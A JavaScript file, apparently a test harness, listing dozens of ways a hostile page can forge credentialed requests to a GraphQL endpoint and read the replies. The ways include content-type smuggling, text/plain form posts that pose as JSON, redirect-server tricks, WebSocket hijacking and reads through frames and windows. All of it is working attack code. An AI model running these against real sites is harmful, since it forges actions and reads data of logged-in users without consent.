// What a hostile page does to `target`. Each way resolves with the text that it could read: "" if none.
const PATIENCE = 4000;
const wait = (ms) => new Promise((done) => setTimeout(done, ms));
const within = (work) => Promise.race([work, wait(PATIENCE)]).then((text) => text || "", () => "");
const put = (tag, fields) => new Promise((done) => {
  const element = Object.assign(document.createElement(tag), fields);
  element.onload = element.onerror = () => done("");
  document.body.append(element);
});
const NOTHING = "<html><head></head><body></body></html>";
const read = (found) => {
  try {
    const html = found.document.documentElement.outerHTML;
    return html === NOTHING ? "" : html;
  } catch { return ""; }
};
const ask = (url, options) => fetch(url, options).then((answer) => answer.text());
const asked = (target, query) => `${target}/graphql?query=${encodeURIComponent(query)}`;
const sentOn = (url) => `/to?${encodeURIComponent(url)}`;
const json = (query) => JSON.stringify({ query });
const post = (query, target, type, url = `${target}/graphql`) => ask(url, {
  method: "POST", mode: "no-cors", credentials: "include", body: new Blob([json(query)], { type }),
});
const framed = async (tag, fields) => {
  const frame = document.createElement(tag);
  Object.assign(frame, fields);
  const loaded = new Promise((done) => { frame.onload = frame.onerror = done; });
  document.body.append(frame);
  await Promise.race([loaded, wait(PATIENCE / 2)]);
  return frame.contentWindow ? read(frame.contentWindow) : "";
};
const submitted = async (fields, inputs, blank = false) => {
  const name = `frame${Math.random()}`;
  const frame = Object.assign(document.createElement("iframe"), { name });
  document.body.append(frame);
  const form = Object.assign(document.createElement("form"), { target: blank ? "_blank" : name, ...fields });
  for (const [key, value] of Object.entries(inputs)) {
    form.append(Object.assign(document.createElement("input"), { name: key, value }));
  }
  document.body.append(form);
  const loaded = new Promise((done) => { frame.onload = done; });
  form.submit();
  await (blank ? wait(700) : Promise.race([loaded, wait(1500)]));
  return read(frame.contentWindow);
};
const opened = async (url, options) => {
  const other = window.open(url, "_blank", options);
  await wait(900);
  const text = other ? read(other) : "";
  if (other) other.close();
  return text;
};
const socket = (target, query) => new Promise((done) => {
  let heard = "";
  const ws = new WebSocket(`${target.replace("http", "ws")}/graphql`, "graphql-ws");
  ws.onopen = () => {
    ws.send(JSON.stringify({ type: "connection_init", payload: {} }));
    ws.send(JSON.stringify({ type: "start", id: "1", payload: { query } }));
    setTimeout(() => { ws.close(); done(heard); }, 1500);
  };
  ws.onmessage = (message) => { heard += message.data; };
  ws.onerror = () => done(heard);
});

const WAYS = {
  // Of a mutation, or a query, in a URL.
  image: (target, query) => put("img", { src: asked(target, query) }),
  script: (target, query) => put("script", { src: asked(target, query) }),
  style: (target, query) => put("link", { rel: "stylesheet", href: asked(target, query) }),
  video: (target, query) => put("video", { src: asked(target, query), autoplay: true }),
  prefetch: (target, query) => put("link", { rel: "prefetch", href: asked(target, query) }),
  preload: (target, query) => put("link", { rel: "preload", as: "fetch", crossOrigin: "use-credentials", href: asked(target, query) }),
  events: (target, query) => new Promise((done) => {
    const source = new EventSource(asked(target, query), { withCredentials: true });
    source.onerror = source.onmessage = () => { source.close(); done(""); };
  }),
  blindGet: (target, query) => ask(asked(target, query), { mode: "no-cors", credentials: "include" }),
  openGet: (target, query) => ask(asked(target, query), { credentials: "include" }),
  keptGet: (target, query) => ask(asked(target, query), { mode: "no-cors", keepalive: true, credentials: "include" }),
  // Of a body, of each type that a browser sends without asking first, and of the one that is right.
  plainPost: (target, query) => post(query, target, "text/plain", asked(target, query)),
  formPost: (target, query) => post(query, target, "application/x-www-form-urlencoded", asked(target, query)),
  smuggledPost: (target, query) => post(query, target, "text/plain;x=application/json"),
  untypedPost: (target, query) => post(query, target, "", asked(target, query)),
  jsonPost: (target, query) => ask(`${target}/graphql`, {
    method: "POST", credentials: "include", headers: { "Content-Type": "application/json" }, body: json(query),
  }),
  putJson: (target, query) => ask(asked(target, query), {
    method: "PUT", credentials: "include", headers: { "Content-Type": "application/json" }, body: json(query),
  }),
  beacon: async (target, query) => { navigator.sendBeacon(asked(target, query)); await wait(300); },
  typedBeacon: async (target, query) => {
    navigator.sendBeacon(`${target}/graphql`, new Blob([json(query)], { type: "text/plain;x=application/json" }));
    await wait(300);
  },
  // Of forms.
  formGet: (target, query) => submitted({ action: `${target}/graphql`, method: "get" }, { query }),
  formUrl: (target, query) => submitted({ action: asked(target, query), method: "post" }, { a: "b" }),
  formParts: (target, query) => submitted(
    { action: asked(target, query), method: "post", enctype: "multipart/form-data" }, { a: "b" }),
  formPlain: (target, query) => submitted(
    { action: asked(target, query), method: "post", enctype: "text/plain" }, { [`{"query":${JSON.stringify(query)},"a":"`]: '"}' }),
  formTab: (target, query) => submitted({ action: asked(target, query), method: "post" }, { a: "b" }, true),
  // Of a server of its own that sends the browser on, with method and body.
  sentImage: (target, query) => put("img", { src: sentOn(asked(target, query)) }),
  sentForm: (target, query) => submitted({ action: sentOn(asked(target, query)), method: "post" }, { a: "b" }),
  sentBlind: (target, query) => ask(sentOn(asked(target, query)), { method: "POST", mode: "no-cors", credentials: "include" }),
  sentJson: (target, query) => ask(sentOn(`${target}/graphql`), {
    method: "POST", credentials: "include", headers: { "Content-Type": "application/json" }, body: json(query),
  }),
  // Of frames and windows.
  frame: (target, query) => framed("iframe", { src: asked(target, query) }),
  object: (target, query) => framed("object", { data: asked(target, query), type: "text/html" }),
  embed: (target, query) => framed("embed", { src: asked(target, query), type: "text/html" }),
  tab: (target, query) => opened(asked(target, query)),
  loneTab: (target, query) => opened(asked(target, query), "noopener"),
  socket,
  // Of reports of assets, without a body and with one.
  reportBlind: (target, _, path) => ask(target + path, { method: "POST", mode: "no-cors", credentials: "include" }),
  reportOpen: (target, _, path) => ask(target + path, { method: "POST", credentials: "include" }),
  reportBeacon: async (target, _, path) => { navigator.sendBeacon(target + path); await wait(300); },
  reportJson: (target, _, path) => ask(target + path, {
    method: "POST", credentials: "include", headers: { "Content-Type": "application/json" }, body: "{}",
  }),
  reportForm: (target, _, path) => submitted({ action: target + path, method: "post" }, {}),
  // Of pages and files.
  readFetch: (target, _, path) => ask(target + path, { credentials: "include" }),
  readBlind: (target, _, path) => ask(target + path, { mode: "no-cors", credentials: "include" }),
  readFrame: (target, _, path) => framed("iframe", { src: target + path }),
  readTab: (target, _, path) => opened(target + path),
  readScript: (target, _, path) => put("script", { src: target + path }),
};

const attack = ([way, target, query, path]) => within(WAYS[way](target, query, path));
